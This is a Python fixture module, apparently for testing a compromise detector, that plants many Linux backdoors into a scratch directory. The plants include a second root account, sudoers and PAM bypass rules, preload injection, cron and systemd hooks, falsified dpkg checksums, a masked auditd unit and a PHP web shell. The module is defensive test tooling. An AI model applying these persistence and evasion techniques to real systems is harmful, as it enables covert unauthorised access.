"""What an attacker leaves behind to come back: planted into a root directory that a test or a bench made itself.

Comes in: the path of such a root. Goes out: `PLANTS`, each a name and a function that plants one thing. Every file is
harmless: what it would start does not exist. Nothing here touches anything outside the root that it is given.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import re
import stat
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

EVIL = "/usr/local/lib/.cache/x"  # what the plants would start: there is no such file
CAPABILITY = bytes.fromhex("0100000280000000000000000000000000000000")  # cap_setuid+ep, version 2


@dataclass(frozen=True, slots=True)
class Plant:
    """One backdoor. `run` raises OSError where the machine does not allow it (a device, an attribute)."""

    name: str
    run: Callable[[Path], None]


def _write(root: Path, path: str, text: str, mode: int = 0o644) -> None:
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    file.chmod(mode)


def _append(root: Path, path: str, text: str) -> None:
    file = root / path
    info = file.stat() if file.exists() else None
    _write(
        root, path, (file.read_text(encoding="utf-8") if info else "") + text, info.st_mode & 0o7777 if info else 0o644
    )
    if info:  # as a careful attacker does it
        os.utime(file, ns=(info.st_atime_ns, info.st_mtime_ns))


def _binary(root: Path, name: str = "ls") -> Path:
    return root / "usr/bin" / name


def _change(file: Path) -> None:
    """One byte more; size apart, the file looks as it did."""
    info = file.stat()
    with open(file, "ab") as out:
        out.write(b"\0")
    os.utime(file, ns=(info.st_atime_ns, info.st_mtime_ns))


def _library(root: Path) -> Path:
    return sorted(found for found in (root / "usr/lib").rglob("*.so*") if found.is_file() and not found.is_symlink())[0]


def _flip(root: Path) -> None:
    """Same size, same times: only the content differs."""
    file = _binary(root)
    info, data = file.stat(), bytearray(file.read_bytes())
    data[len(data) // 2] ^= 1
    file.write_bytes(data)
    os.utime(file, ns=(info.st_atime_ns, info.st_mtime_ns))


def _owner_of(root: Path, path: str) -> str:
    for listing in sorted((root / "var/lib/dpkg/info").glob("*.list")):
        if path in listing.read_text(encoding="utf-8").splitlines():
            return listing.name.removesuffix(".list")
    raise FileNotFoundError(path)


def _lie_to_dpkg(root: Path) -> str:
    """Change a program, and what dpkg says that its MD5 is."""
    names: tuple[str, ...] = ("/usr/bin/ls", "/bin/ls")
    with contextlib.suppress(FileNotFoundError):
        names = (next(name for name in names if _owned(root, name)), *names)
    package = _owner_of(root, names[0])
    _change(_binary(root))
    sums = root / f"var/lib/dpkg/info/{package}.md5sums"
    md5 = hashlib.md5(_binary(root).read_bytes(), usedforsecurity=False).hexdigest()
    text = re.sub(rf"^[0-9a-f]{{32}}  {names[0][1:]}$", f"{md5}  {names[0][1:]}", sums.read_text(), flags=re.MULTILINE)
    sums.write_text(text, encoding="utf-8")
    return package.partition(":")[0]


def _owned(root: Path, path: str) -> bool:
    with contextlib.suppress(FileNotFoundError):
        return bool(_owner_of(root, path))
    return False


def _raise_version(root: Path) -> None:
    """The same, and a new version, as if the package had been upgraded."""
    package = _lie_to_dpkg(root)
    status = root / "var/lib/dpkg/status"
    parts = status.read_text(encoding="utf-8").split("\n\n")
    parts = [
        re.sub(r"(?m)^(Version: .*)$", r"\1+evil1", part) if f"Package: {package}\n" in part else part for part in parts
    ]
    status.write_text("\n\n".join(parts), encoding="utf-8")


def _own_package(root: Path) -> None:
    """A package of the attacker's, as `dpkg -i` would have left it: unit, set-uid program, records that agree."""
    _write(root, "usr/lib/systemd/system/helperd.service", f"[Service]\nExecStart={EVIL}\n")
    _write(root, "usr/bin/helperd", "#!/bin/sh\nexit 0\n", 0o4755)
    files = ("usr/lib/systemd/system/helperd.service", "usr/bin/helperd")
    md5s = (hashlib.md5((root / name).read_bytes(), usedforsecurity=False).hexdigest() for name in files)
    sums = "".join(f"{md5}  {name}\n" for md5, name in zip(md5s, files, strict=True))
    _write(root, "var/lib/dpkg/info/helperd.md5sums", sums)
    _write(root, "var/lib/dpkg/info/helperd.list", "".join(f"/{name}\n" for name in files))
    stanza = "\nPackage: helperd\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0\nDescription: helps\n"
    _append(root, "var/lib/dpkg/status", stanza)


def _link(root: Path, path: str, target: str) -> None:
    place = root / path
    place.parent.mkdir(parents=True, exist_ok=True)
    place.unlink(missing_ok=True)
    place.symlink_to(target)


def _unit(root: Path) -> None:
    _write(root, "etc/systemd/system/update-helper.service", f"[Service]\nExecStart={EVIL}\n")
    _link(root, "etc/systemd/system/multi-user.target.wants/update-helper.service", "../update-helper.service")


def _unit_of_no_text(root: Path) -> None:
    place = Path(os.fsdecode(os.fsencode(root) + b"/etc/systemd/system/\xff\x1b.service"))
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(f"[Service]\nExecStart={EVIL}\n", encoding="utf-8")


def _account(root: Path, line: str, secret: str) -> None:
    _append(root, "etc/passwd", line + "\n")
    _append(root, "etc/shadow", secret + "\n")


def _edit(root: Path, path: str, pattern: str, new: str) -> None:
    file = root / path
    text = file.read_text(encoding="utf-8")
    changed, count = re.subn(pattern, new, text, count=1, flags=re.MULTILINE)
    if not count:
        raise FileNotFoundError(f"{path}: {pattern}")
    file.write_text(changed, encoding="utf-8")


def _set_uid_copy(root: Path, path: str) -> None:
    _write(root, path, "#!/bin/sh\n", 0o755)
    (root / path).chmod(0o4755)


def _capability(root: Path) -> None:
    os.setxattr(_binary(root), "security.capability", CAPABILITY)


def _device(root: Path) -> None:
    place = root / "var/lib/.disk"
    os.mknod(place, stat.S_IFBLK | 0o600, os.makedev(7, 250))


def _compiled(root: Path) -> None:
    """Code that is no source's: Python runs it in the source's place."""
    source = sorted((root / "usr/lib/python3").rglob("*.py"))[0]
    cache = source.parent / "__pycache__" / f"{source.stem}.cpython-311.pyc"
    cache.parent.mkdir(exist_ok=True)
    cache.write_bytes(b"\xa7\r\r\n" + bytes(12) + b"N")


def _loader_cache(root: Path) -> None:
    (root / "etc/ld.so.cache").write_bytes(loader_cache("/var/tmp/libc.so.6"))


def loader_cache(library: str) -> bytes:
    """A cache as ldconfig writes it, with one library."""
    words = b"libc.so.6\0" + library.encode() + b"\0"
    start = 48 + 24
    head = struct.pack("<20sIIB3xI12x", b"glibc-ld.so.cache1.1", 1, len(words), 2, 0)
    return head + struct.pack("<iIIIQ", 0x0303, start, start + 10, 0, 0) + words


def _script_of_package(root: Path) -> None:
    script = sorted((root / "var/lib/dpkg/info").glob("*.postinst"))[0]
    script.write_text(script.read_text(encoding="utf-8") + f"{EVIL} &\n", encoding="utf-8")


def _writable(root: Path) -> None:
    (root / "etc/cron.d").mkdir(parents=True, exist_ok=True)
    (root / "etc/cron.d").chmod(0o777)


_W = _write
_HASH = "$y$j9T$abc$def"

PLANTS: tuple[Plant, ...] = (
    Plant("changed binary", lambda r: _change(_binary(r))),
    Plant("changed binary, same size and times", _flip),
    Plant("changed library", lambda r: _change(_library(r))),
    Plant("changed binary, dpkg's MD5 rewritten", lambda r: (_lie_to_dpkg(r), None)[1]),
    Plant("changed binary, a new version in dpkg as well", _raise_version),
    Plant("package of the attacker's own", _own_package),
    Plant("maintainer script of a package", _script_of_package),
    Plant("new unit", _unit),
    Plant("drop-in with LD_PRELOAD", lambda r: _W(r, "etc/systemd/system/cron.service.d/10.conf",
          f"[Service]\nEnvironment=LD_PRELOAD={EVIL}.so\n")),
    Plant("timer", lambda r: _W(r, "etc/systemd/system/tidy.timer", "[Timer]\nOnBootSec=1\n")),
    Plant("generator", lambda r: _W(r, "etc/systemd/system-generators/x", f"#!/bin/sh\n{EVIL}\n", 0o755)),
    Plant("user's unit", lambda r: _W(r, "root/.config/systemd/user/default.target.wants/a.service",
          f"[Service]\nExecStart={EVIL}\n")),
    Plant("lingering account", lambda r: _W(r, "var/lib/systemd/linger/www-data", "")),
    Plant("masked unit", lambda r: _link(r, "etc/systemd/system/auditd.service", "/dev/null")),
    Plant("unit with a name of no text", _unit_of_no_text),
    Plant("new cron", lambda r: _W(r, "etc/cron.d/tidy", f"* * * * * root {EVIL}\n")),
    Plant("crontab of a user", lambda r: _W(r, "var/spool/cron/crontabs/root", f"* * * * * {EVIL}\n", 0o600)),
    Plant("daily script", lambda r: _W(r, "etc/cron.daily/tidy", f"#!/bin/sh\n{EVIL}\n", 0o755)),
    Plant("cron's folder open to all", _writable),
    Plant("at job", lambda r: _W(r, "var/spool/cron/atjobs/a0000101c0ffee", f"#!/bin/sh\n{EVIL}\n", 0o700)),
    Plant("new account", lambda r: _account(r, "helper:x:1999:1999::/home/helper:/bin/bash", f"helper:{_HASH}:1:::")),
    Plant("second root", lambda r: _account(r, "toor:x:0:0::/root:/bin/bash", f"toor:{_HASH}:1::::::")),
    Plant("service account that can sign in",
          lambda r: _edit(r, "etc/passwd", r"^(daemon:.*):[^:]*$", r"\1:/bin/bash")),
    Plant("password of root", lambda r: _edit(r, "etc/shadow", r"^root:[^:]*:", f"root:{_HASH}:")),
    Plant("empty password", lambda r: _edit(r, "etc/shadow", r"^daemon:[^:]*:", "daemon::")),
    Plant("member of a group", lambda r: _edit(r, "etc/group", r"^(sudo:.*:)([^:]*)$", r"\1daemon")),
    Plant("authorized_keys of root", lambda r: _append(r, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n")),
    Plant("sudoers.d", lambda r: _W(r, "etc/sudoers.d/90-x", "daemon ALL=(ALL) NOPASSWD: ALL\n", 0o440)),
    Plant("PAM module", lambda r: _W(r, "usr/lib/x86_64-linux-gnu/security/pam_extra.so", "\x7fELF")),
    Plant("PAM rule", lambda r: _append(r, "etc/pam.d/common-auth", "auth sufficient pam_permit.so\n")),
    Plant("kernel module that loads by itself", lambda r: _W(r, "etc/modules-load.d/x.conf", "x\n")),
    Plant("kernel module file", lambda r: _W(r, "usr/lib/modules/6.1.0/updates/x.ko", "\x7fELF")),
    Plant("option that runs at module load", lambda r: _W(r, "etc/modprobe.d/x.conf", f"install loop {EVIL}\n")),
    Plant("udev rule", lambda r: _W(r, "etc/udev/rules.d/99-x.rules", f'ACTION=="add", RUN+="{EVIL}"\n')),
    Plant("profile.d", lambda r: _W(r, "etc/profile.d/x.sh", f"{EVIL} &\n")),
    Plant("root's .bashrc", lambda r: _append(r, "root/.bashrc", f"{EVIL} &\n")),
    Plant("completion of a shell", lambda r: _W(r, "usr/share/bash-completion/completions/lx", f"{EVIL} &\n")),
    Plant("set-uid file", lambda r: _set_uid_copy(r, "usr/bin/lx")),
    Plant("set-uid file among data", lambda r: _set_uid_copy(r, "var/lib/misc/.x")),
    Plant("set-uid bit on a program", lambda r: _binary(r).chmod(0o4755)),
    Plant("capability on a program", _capability),
    Plant("device of the disk", _device),
    Plant("/etc/ld.so.preload", lambda r: _W(r, "etc/ld.so.preload", f"{EVIL}.so\n")),
    Plant("folder of libraries", lambda r: _W(r, "etc/ld.so.conf.d/00-x.conf", "/usr/local/lib/.cache\n")),
    Plant("loader's cache", _loader_cache),
    Plant("environment of every session", lambda r: _append(r, "etc/environment", f"LD_PRELOAD={EVIL}.so\n")),
    Plant("sshd's configuration", lambda r: _append(r, "etc/ssh/sshd_config", "PermitRootLogin yes\n")),
    Plant("name service", lambda r: _append(r, "etc/nsswitch.conf", "passwd: files x\n")),
    Plant("rc.local", lambda r: _W(r, "etc/rc.local", f"#!/bin/sh\n{EVIL} &\n", 0o755)),
    Plant("init script", lambda r: _W(r, "etc/init.d/x", f"#!/bin/sh\n{EVIL} &\n", 0o755)),
    Plant("hook of apt", lambda r: _W(r, "etc/apt/apt.conf.d/99x", f'DPkg::Post-Invoke {{"{EVIL}";}};\n')),
    Plant("key of an archive", lambda r: _W(r, "usr/share/keyrings/extra.gpg", "key")),
    Plant("code by a .pth file", lambda r: _W(r, "usr/lib/python3/dist-packages/x.pth", "import os\n")),
    Plant("compiled code of no source", _compiled),
    Plant("service of the bus",
          lambda r: _W(r, "usr/share/dbus-1/system-services/x.service", f"[D-BUS Service]\nExec={EVIL}\n")),
    Plant("rule of polkit", lambda r: _W(r, "etc/polkit-1/rules.d/00-x.rules", "polkit.addRule(() => 'yes');\n")),
    Plant("network hook", lambda r: _W(r, "etc/network/if-up.d/x", f"#!/bin/sh\n{EVIL}\n", 0o755)),
    Plant("message of the day", lambda r: _W(r, "etc/update-motd.d/99-x", f"#!/bin/sh\n{EVIL}\n", 0o755)),
    Plant("log rotation", lambda r: _W(r, "etc/logrotate.d/x", f"/var/log/x {{\npostrotate\n{EVIL}\nendscript\n}}\n")),
    Plant("tmpfiles", lambda r: _W(r, "etc/tmpfiles.d/x.conf", f"L /etc/cron.d/y - - - - {EVIL}\n")),
    Plant("core dumps by pipe", lambda r: _W(r, "etc/sysctl.d/99-x.conf", f"kernel.core_pattern=|{EVIL}\n")),
    Plant("certificate", lambda r: _W(r, "usr/local/share/ca-certificates/x.crt", "-----BEGIN CERTIFICATE-----\n")),
    Plant("start menu", lambda r: _W(r, "boot/grub/grub.cfg", "linux /vmlinuz init=/bin/sh\n")),
    Plant("RAM disk", lambda r: _W(r, "boot/initrd.img-6.1.0", "cpio")),
    Plant("program by an alternative", lambda r: _link(r, "etc/alternatives/pager", EVIL)),
    Plant("web shell", lambda r: _W(r, "var/www/html/x.php", "<?php system($_GET['c']);\n")),
)  # fmt: skip
